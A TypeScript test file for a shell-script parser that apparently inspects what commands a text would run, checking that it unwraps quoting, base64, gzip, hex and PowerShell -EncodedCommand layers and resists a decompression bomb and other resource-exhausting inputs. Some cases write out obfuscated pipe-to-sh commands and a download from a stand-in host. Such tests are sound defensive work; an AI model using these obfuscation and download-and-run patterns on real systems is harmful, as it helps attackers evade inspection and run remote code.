import { gzipSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { readArguments, readScript } from './script.js'

const argvs = (text: string) => readScript(text).commands.map(({ argv }) => argv.join(' '))
const base64 = (text: string | Buffer) => Buffer.from(text).toString('base64')

describe('what a text makes a shell do', () => {
  it.each([
    ['a \'b c\'  "d e" f\\ g', ['a b c d e f g']],
    ['a; b && c || d | e & f', ['a', 'b', 'c', 'd', 'e', 'f']],
    ['sudo -u me nohup nice -n 19 /opt/x -o y', ['/opt/x -o y']],
    ['X=curl; U="http://192.0.2.1/a"; $X -s $U', ['curl -s http://192.0.2.1/a']],
    ["sh -c 'a | b'", ['sh -c a | b', 'a', 'b']],
    ['echo $(id -u)', ['echo', 'id -u']],
    ['echo `id -u`', ['echo', 'id -u']],
    [`echo ${base64('ls -l')} | base64 -d | sh`, [`echo ${base64('ls -l')}`, 'base64 -d', 'ls -l', 'sh']],
    [`base64 -d <<< ${base64('ls -l')} | sh`, ['base64 -d', 'ls -l', 'sh']],
    [
      `echo ${base64(gzipSync('ls -l'))}|base64 -d|gunzip|sh`,
      [expect.stringContaining('echo'), 'base64 -d', 'ls -l', 'gunzip', 'sh'],
    ],
    ['echo 6c73202d6c0a | xxd -r -p | sh', ['echo 6c73202d6c0a', 'xxd -r -p', 'ls -l', 'sh']],
    ["printf '\\x6c\\x73' | sh", [expect.stringContaining('printf'), 'sh', 'ls']],
    ['sh <<EOF\nls -l\nEOF\nid', ['sh', 'ls -l', 'id']],
    ['# a remark\nls', ['ls']],
  ])('reads %s', (text, commands) => {
    expect(argvs(text)).toEqual(commands)
  })

  it('reads -EncodedCommand in any of its short forms', () => {
    const coded = Buffer.from('iwr http://192.0.2.1/a', 'utf16le').toString('base64')
    for (const option of ['-e', '-enc', '-EncodedCommand'])
      expect(argvs(`powershell.exe -nop ${option} ${coded}`).at(-1)).toBe('iwr http://192.0.2.1/a')
  })

  it('leaves backslashes of Windows alone', () => {
    expect(argvs('C:\\Users\\a\\b.exe --x "C:\\c d"')).toEqual(['C:\\Users\\a\\b.exe --x C:\\c d'])
  })

  it('takes words that lost their quotes for the script', () => {
    const script = readArguments(['sh', '-c', 'a', 'b'])
    expect(script.commands.map(({ argv }) => argv.join(' '))).toEqual(['sh -c a b', 'a b'])
  })
})

describe('hostile texts', () => {
  it('are unpacked so far and no further', () => {
    let text = 'ls'
    for (let i = 0; i < 20; i++) text = `echo ${base64(text)} | base64 -d | sh`
    const script = readScript(text)
    expect(script.cut).toBe(true)
    expect(script.layers.length).toBeLessThan(10)
  })

  it.each([
    ['brackets', '$('.repeat(200_000)],
    ['quotes', '"\''.repeat(200_000)],
    ['here-documents', '<<A\n'.repeat(20_000)],
    ['words', 'a '.repeat(500_000)],
    ['pipes', '|a'.repeat(300_000)],
    ['a bomb', `echo ${base64(gzipSync(Buffer.alloc(50_000_000)))} | base64 -d | gunzip | sh`],
    ['variables that grow', 'a=xxxxxxxxxx;'.concat(...Array.from({ length: 60 }, () => 'a=$a$a$a;'))],
  ])('end within bounds: %s', (_, text) => {
    expect(readScript(text).commands.length).toBeLessThan(10_000)
  })
})
